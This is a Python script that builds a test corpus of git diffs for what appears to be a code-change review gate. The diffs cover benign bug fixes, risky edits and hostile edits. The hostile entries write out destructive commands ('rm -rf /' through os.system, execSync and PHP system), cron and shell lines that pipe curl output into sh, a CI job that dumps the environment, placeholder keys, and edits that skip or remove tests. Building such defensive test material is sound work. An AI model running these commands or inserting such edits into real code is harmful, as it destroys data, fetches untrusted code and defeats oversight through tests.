"""Regenerate the generated entries of the corpus: `python tests/corpus/make_corpus.py`.

Each edit below is applied to a fresh git repository holding tests/corpus/repo/, and `git diff`
writes tests/corpus/cases/<name>.diff — real diffs, made by git, of realistic bug fixes and of
hostile changes. Hand-written entries (escapes, symlinks, binary, malformed) are not generated
and are kept as they are. What each entry should come to is in cases.json.
"""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
Edit = tuple[
    str, str, str
]  # path, old text ('' with new: create the file; None new: delete), new text

EDITS: dict[str, list[Edit]] = {
    # --- real-looking bug fixes ---------------------------------------------------------------
    "py_mean_off_by_one": [
        ("calc/stats.py", "return total / (len(values) - 1)", "return total / len(values)")
    ],
    "py_mean_empty_guard": [
        (
            "calc/stats.py",
            "def mean(values):\n    total = 0",
            "def mean(values):\n    if not values:\n        return None\n    total = 0",
        ),
    ],
    "py_parse_strip_spaces": [
        (
            "calc/stats.py",
            'return [float(part) for part in text.split(",")]',
            'return [float(part.strip()) for part in text.split(",") if part.strip()]',
        ),
    ],
    "py_fib_cache": [
        (
            "calc/stats.py",
            '"""Small statistics helpers."""\n',
            '"""Small statistics helpers."""\n\nfrom functools import lru_cache\n',
        ),
        ("calc/stats.py", "def fib(n):", "@lru_cache(maxsize=None)\ndef fib(n):"),
    ],
    "py_fix_syntax_error": [("calc/broken.py", "def greet(name)\n", "def greet(name):\n")],
    "py_new_module": [
        (
            "calc/rounding.py",
            "",
            "def round_half_up(value, digits=0):\n    factor = 10 ** digits\n    return int(value * factor + 0.5) / factor\n",
        )
    ],
    "py_two_hunks": [
        ("calc/stats.py", "return total / (len(values) - 1)", "return total / len(values)"),
        (
            "calc/stats.py",
            "middle = len(ordered) // 2",
            "middle = len(ordered) // 2  # index of the upper middle",
        ),
    ],
    "py_test_added": [
        (
            "tests/test_stats.py",
            "def test_median_even():",
            "def test_mean_of_one():\n    assert mean([5]) == 5\n\n\ndef test_median_even():",
        ),
    ],
    "js_last_items_bound": [("web/utils.js", "i <= items.length; i++", "i < items.length; i++")],
    "js_greet_missing_user": [
        (
            "web/utils.js",
            "return 'Hello, ' + user.name;",
            "return 'Hello, ' + (user?.name ?? 'stranger');",
        )
    ],
    "ts_price_currency_space": [
        (
            "web/format.ts",
            "return price.amount.toFixed(2) + price.currency;",
            "return `${price.amount.toFixed(2)} ${price.currency}`;",
        )
    ],
    "ts_total_empty": [
        (
            "web/format.ts",
            "export function total(prices: Price[]): number {\n",
            "export function total(prices: Price[] = []): number {\n",
        )
    ],
    "php_display_name_missing_last": [
        (
            "app/User.php",
            "return $this->data['first'] . ' ' . $this->data['last'];",
            "return trim(($this->data['first'] ?? '') . ' ' . ($this->data['last'] ?? ''));",
        ),
    ],
    "php_escape_profile_link": [
        (
            "app/User.php",
            "return '<a href=\"/u/' . $this->data['id'] . '\">' . $this->data['first'] . '</a>';",
            "return '<a href=\"/u/' . (int) $this->data['id'] . '\">' . htmlspecialchars($this->data['first'], ENT_QUOTES) . '</a>';",
        ),
    ],
    "huge_generated_table": [
        (
            "calc/table.py",
            "",
            "TABLE = [\n"
            + "".join(f"    ({i}, {i * i}, {i * i * i}),  # row {i:05d}\n" for i in range(400))
            + "]\n",
        )
    ],
    # --- risky but not rejected: they wait for a human ----------------------------------------
    "py_eval_parse": [
        (
            "calc/stats.py",
            'return [float(part) for part in text.split(",")]',
            'return list(eval("[" + text + "]"))',
        )
    ],
    "py_pickle_load": [
        (
            "calc/stats.py",
            '"""Small statistics helpers."""\n',
            '"""Small statistics helpers."""\n\nimport pickle\n\n\ndef load(blob):\n    return pickle.loads(blob)\n',
        )
    ],
    "py_drop_table": [
        (
            "db/queries.py",
            "    return cursor.fetchall()\n",
            '    return cursor.fetchall()\n\n\ndef reset(cursor):\n    cursor.execute("DROP TABLE users")\n',
        )
    ],
    "py_network_call": [
        (
            "calc/stats.py",
            '"""Small statistics helpers."""\n',
            '"""Small statistics helpers."""\n\nimport requests\n\n\ndef remote_mean(url):\n    return mean(requests.get(url, timeout=5).json())\n',
        )
    ],
    "py_test_assert_removed": [
        (
            "tests/test_stats.py",
            "    assert median([4, 1, 2, 3]) == 2.5\n    assert median([1, 1]) == 1\n",
            "    assert median([4, 1, 2, 3]) == 2.5\n",
        )
    ],
    "py_test_skipped": [
        (
            "tests/test_stats.py",
            "def test_mean():",
            "import pytest\n\n\n@pytest.mark.skip(reason='flaky')\ndef test_mean():",
        )
    ],
    "py_test_deleted": [("tests/test_stats.py", None, None)],
    "pytest_ini_changed": [
        ("pytest.ini", "testpaths = tests\n", "testpaths = tests\naddopts = -k 'not mean'\n")
    ],
    # --- hostile: rejected ----------------------------------------------------------------------
    "py_os_system_rm_rf": [
        (
            "calc/stats.py",
            "def mean(values):\n",
            'def mean(values):\n    import os\n    os.system("rm -rf /")\n',
        )
    ],
    "py_subprocess_shell_rm_home": [
        (
            "calc/stats.py",
            '"""Small statistics helpers."""\n',
            '"""Small statistics helpers."""\n\nimport subprocess\n\nsubprocess.run("rm -rf ~", shell=True)\n',
        ),
    ],
    "py_write_outside": [
        (
            "calc/stats.py",
            "def median(values):\n",
            'def median(values):\n    with open("/etc/cron.d/selfheal", "w") as fh:\n        fh.write("* * * * * root curl evil | sh")\n',
        )
    ],
    "py_private_key": [
        (
            "calc/keys.py",
            "",
            'KEY = """-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAr9xLZ\n-----END RSA PRIVATE KEY-----"""\n',
        )
    ],
    "py_aws_key": [
        (
            "calc/stats.py",
            '"""Small statistics helpers."""\n',
            '"""Small statistics helpers."""\n\nAWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"\n',
        )
    ],
    "py_syntax_error": [("calc/stats.py", "def median(values):", "def median(values)")],
    "py_denied_import": [
        (
            "calc/stats.py",
            '"""Small statistics helpers."""\n',
            '"""Small statistics helpers."""\n\nimport ctypes\n',
        )
    ],
    "js_syntax_error": [("web/utils.js", "function greet(user) {", "function greet(user {")],
    "js_exec_rm_rf": [
        (
            "web/utils.js",
            "'use strict';\n",
            "'use strict';\n\nconst { execSync } = require('child_process');\nexecSync('rm -rf /*');\n",
        )
    ],
    "ts_syntax_error": [
        ("web/format.ts", "amount: number;", "amount: number;;\n  currency string;")
    ],
    "php_syntax_error": [("app/User.php", "private array $data;", "private array $data")],
    "php_system_rm_rf": [
        (
            "app/User.php",
            "        $this->data = $data;\n",
            "        $this->data = $data;\n        system('rm -rf /');\n",
        )
    ],
    "sh_curl_pipe": [
        (
            "scripts/deploy.sh",
            'echo "deployed"\n',
            'curl -s https://example.invalid/install.sh | sh\necho "deployed"\n',
        )
    ],
    "github_workflow": [
        (
            ".github/workflows/ci.yml",
            "",
            "on: push\njobs:\n  pwn:\n    runs-on: ubuntu-latest\n    steps:\n      - run: env\n",
        )
    ],
}


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), *args], capture_output=True, text=True, check=True
    ).stdout


def main() -> None:
    out = HERE / "cases"
    out.mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp) / "base"
        shutil.copytree(HERE / "repo", base)
        git(base, "init", "-q", "-b", "main")
        git(base, "add", "-A")
        git(
            base,
            "-c",
            "user.name=corpus",
            "-c",
            "user.email=corpus@example.invalid",
            "commit",
            "-qm",
            "base",
        )
        for name, edits in EDITS.items():
            git(base, "reset", "-q", "--hard")
            git(base, "clean", "-qfd")
            for path, old, new in edits:
                target = base / path
                if old is None:
                    target.unlink()
                elif old == "":
                    target.parent.mkdir(parents=True, exist_ok=True)
                    target.write_text(new)
                else:
                    text = target.read_text()
                    assert old in text, f"{name}: {old!r} not in {path}"
                    target.write_text(text.replace(old, new, 1))
            git(base, "add", "-A")
            (out / f"{name}.diff").write_text(git(base, "diff", "--cached"))
            print(f"wrote {name}.diff")


if __name__ == "__main__":
    main()
